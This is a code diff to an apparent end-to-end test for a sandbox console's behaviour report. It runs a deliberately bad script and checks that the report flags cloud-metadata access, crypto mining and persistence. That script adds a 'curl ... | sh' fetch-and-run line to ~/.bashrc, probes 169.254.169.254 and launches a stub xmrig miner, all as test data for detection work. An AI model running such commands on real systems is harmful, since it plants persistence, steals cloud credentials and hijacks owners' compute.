@@ -8,10 +8,12 @@ its signatures, and a viewer's pages without the buttons that change anything.
 from __future__ import annotations
 
 import base64
+import json
 import os
 import re
 import time
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 from playwright.sync_api import expect
@@ -34,7 +36,9 @@ pytestmark = pytest.mark.skipif(missing() is not None and not os.environ.get("CI
 
 @pytest.fixture(scope="module")
 def server() -> Iterator[ServerProcess]:
-    with console_server() as srv:
+    # routed: the known-bad script's connection to the metadata address reaches the egress router, which
+    # records it (and refuses it); the uplink routes nowhere
+    with console_server(routed=True) as srv:
         yield srv
 
 
@@ -165,44 +169,48 @@ def test_a_cell_that_draws_a_chart_shows_its_png(page, server: ServerProcess, sa
 
 BAD_SCRIPT = r"""
 echo 'curl -s http://203.0.113.9/x | sh' >> ~/.bashrc
-python3 -c "import socket; s = socket.socket(); s.settimeout(1)
-try: s.connect(('169.254.169.254', 80))
-except OSError: pass"
+timeout 3 python3 -c "import socket; s = socket.socket(); s.settimeout(1); s.connect(('169.254.169.254', 80))" 2>/dev/null
 printf '#!/bin/sh\nexit 0\n' > /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig --url stratum+tcp://x:3333
-true
+echo done
 """
+SIGNATURES = {"cloud-metadata": "Cloud metadata access", "crypto-mining": "Crypto mining", "persistence": "Persistence"}
 
 
 def test_the_report_of_a_known_bad_script_lists_its_signatures(page, server: ServerProcess) -> None:  # noqa: ANN001
     sbx = Sandbox.create(api_url=server.url, api_key=ADMIN_KEY, timeout=300)
     try:
-        sbx.files.write("/home/user/bad.sh", BAD_SCRIPT)
-        sbx.commands.run("bash /home/user/bad.sh", timeout=60)
+        sbx.files.write("/home/user/bad.sh", BAD_SCRIPT)  # from a file: no argv holds the whole script
+        assert sbx.commands.run("bash /home/user/bad.sh", timeout=60).stdout.strip().endswith("done")
         sign_in(page, server.url)
+        report_url = f"{server.url}/ui/api/v/sandboxes/{sbx.sandbox_id}/report"
+        # the HTML report comes with the signatures' titles (record/report_html.py); a server without it
+        # answers ?format=html with the JSON report, whose flags carry the same names
+        html = page.request.get(report_url + "?format=html").headers.get("content-type", "").startswith("text/html")
         page.goto(f"{server.url}/ui/#/sandboxes/{sbx.sandbox_id}/report")
         page.get_by_role("heading", name="Behaviour report").wait_for()
-        frame = page.frame_locator("iframe.report")
         text = ""
         deadline = time.monotonic() + 20
-        wanted = ("cloud-metadata", "crypto-mining", "persistence")
         while time.monotonic() < deadline:  # the record is written as it happens: its flags may lag a moment
-            page.reload()
-            frame = page.frame_locator("iframe.report")
-            frame.locator("body").wait_for()
-            text = frame.locator("body").inner_text()
-            if all(w in text for w in wanted):
+            body = page.frame_locator("iframe.report").locator("body")
+            body.wait_for()
+            text = body.inner_text()
+            if all(name in text for name in SIGNATURES):
                 break
             time.sleep(1)
-        for signature in wanted:
-            assert signature in text, f"{signature} not in the report page:\n{text[:3000]}"
-        # the iframe is sandboxed (no scripts, an opaque origin) and the downloads are the same report
+            page.reload()
+        for name, title in SIGNATURES.items():
+            assert name in text, f"{name} not in the report page:\n{text[:3000]}"
+            if html:
+                assert title in text, f"{title!r} not in the HTML report:\n{text[:3000]}"
+        # the iframe is sandboxed (no scripts, an opaque origin); the downloads are the same report
         assert page.locator("iframe.report").get_attribute("sandbox") == ""
-        with page.expect_download() as html:
+        with page.expect_download() as as_html:
             page.get_by_role("link", name="Download HTML").click()
-        assert b"crypto-mining" in open(html.value.path(), "rb").read()
-        with page.expect_download() as js:
+        assert b"crypto-mining" in Path(as_html.value.path()).read_bytes()
+        with page.expect_download() as as_json:
             page.get_by_role("link", name="Download JSON").click()
-        assert b'"crypto-mining"' in open(js.value.path(), "rb").read()
+        flags = json.loads(Path(as_json.value.path()).read_bytes())
+        assert set(SIGNATURES) <= {f["flag"] for f in flags["flags"]}
     finally:
         sbx.kill()
 
